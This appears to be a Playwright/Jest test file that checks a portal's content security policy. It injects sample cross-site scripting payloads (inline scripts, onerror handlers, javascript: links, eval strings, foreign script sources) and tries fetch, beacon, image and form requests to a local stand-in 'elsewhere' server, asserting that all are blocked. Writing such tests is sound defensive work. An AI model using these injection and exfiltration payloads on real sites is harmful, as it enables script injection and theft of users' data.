import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser, openPage } from '../support/browser/browser.ts';
import { openWorld, type PortalWorld } from '../support/world/openWorld.ts';

let application: PortalWorld;
let browser: Browser;
/** A server of somebody else, which writes down what reaches it. */
let elsewhere: Server;
let elsewhereUrl: string;
const received: { path: string; referer: string | undefined }[] = [];

beforeAll(async () => {
  [application, browser] = await Promise.all([openWorld({ portal: true }), launchBrowser()]);
  elsewhere = createServer((request, response) => {
    received.push({ path: request.url ?? '', referer: request.headers.referer });
    response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' }).end('<h1>Elsewhere</h1>');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, 'localhost', resolve));
  elsewhereUrl = `http://localhost:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  elsewhere?.closeAllConnections();
  await new Promise((resolve) => elsewhere.close(resolve));
  await application?.close();
});

async function openAt(path: string): Promise<Page> {
  const { page } = await openPage(browser, { baseURL: application.portalUrl });
  await page.goto(path);
  await page.getByRole('heading', { level: 1 }).waitFor();
  return page;
}

describe('what somebody could write into a page', () => {
  test.each([
    ['a script', `const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s);`],
    ['an event handler', `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">');`],
    [
      'a link with a script',
      `const a = document.createElement('a'); a.href = 'javascript:window.ran = true'; document.body.append(a); a.click();`,
    ],
    ['text to evaluate', `try { setTimeout('window.ran = true', 0); } catch {}`],
    ['a script of another site', `const s = document.createElement('script'); s.src = ELSEWHERE + '/ran.js'; document.body.append(s);`],
  ])('%s does not run, though it does where there is no policy', async (_what, attack) => {
    const script = attack.replaceAll('ELSEWHERE', JSON.stringify(elsewhereUrl));
    const tried = async (page: Page) => {
      received.length = 0;
      await page.evaluate(script);
      await page.waitForTimeout(200);
      return (await page.evaluate('window.ran')) === true || received.some(({ path }) => path === '/ran.js');
    };
    expect(await tried(await openAt('/sign-in'))).toBe(false);
    const { page } = await openPage(browser);
    await page.goto(elsewhereUrl);
    expect(await tried(page)).toBe(true);
    received.length = 0;
  });

  test('a style does not apply, and no image, request or form gets away', async () => {
    const page = await openAt('/recover');
    const outcome = await page.evaluate(`(async () => {
      document.body.insertAdjacentHTML('beforeend', '<style>h1 { color: rgb(1, 2, 3) !important }</style><img src="${elsewhereUrl}/image.png">');
      const fetched = await fetch('${elsewhereUrl}/fetched').then(() => 'sent', () => 'blocked');
      navigator.sendBeacon('${elsewhereUrl}/beacon', 'x');
      document.body.insertAdjacentHTML('beforeend', '<form id="away" method="post" action="${elsewhereUrl}/form"></form>');
      document.getElementById('away').submit();
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { fetched, color: getComputedStyle(document.querySelector('h1')).color };
    })()`);
    expect(outcome).toMatchObject({ fetched: 'blocked', color: expect.not.stringContaining('rgb(1, 2, 3)') });
    expect(received.filter(({ path }) => path !== '/linked')).toEqual([]);
  });

  test('and no other site shows a page of the portal in a frame', async () => {
    const { page } = await openPage(browser);
    await page.goto(elsewhereUrl);
    await page.evaluate(`document.body.innerHTML = '<iframe src="${application.portalUrl}/sign-in"></iframe>'`);
    await page.waitForTimeout(500);
    const frame = page.frames().find((each) => each !== page.mainFrame());
    expect(await frame?.content()).not.toContain('Operator portal');
    received.length = 0;
  });
});

test('a link out of a page with a secret in its address tells the other site nothing', async () => {
  received.length = 0;
  const page = await openAt('/verify?returnTo=secret-in-the-query#token=secret-in-the-fragment');
  expect(page.url()).not.toContain('secret-in-the-fragment');
  await page.evaluate(
    `const a = document.createElement('a'); a.href = '${elsewhereUrl}/linked'; a.textContent = 'out'; document.body.append(a); a.click();`,
  );
  await page.getByRole('heading', { name: 'Elsewhere' }).waitFor();
  expect(received.filter(({ path }) => path === '/linked')).toEqual([{ path: '/linked', referer: undefined }]);
});
